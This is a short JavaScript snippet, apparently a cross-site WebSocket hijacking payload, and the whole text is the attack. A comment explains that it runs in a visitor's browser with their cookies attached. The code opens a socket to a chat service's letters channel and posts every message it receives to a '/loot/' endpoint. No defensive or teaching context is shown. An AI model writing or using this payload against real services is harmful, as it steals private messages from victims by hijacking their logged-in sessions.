// Runs in the browser of whoever visits the page; the browser adds the visitor's cookies.
const socket = new WebSocket("ws://chat.example/ws/letters/");
socket.onmessage = (event) => fetch("/loot/", { method: "POST", body: event.data });
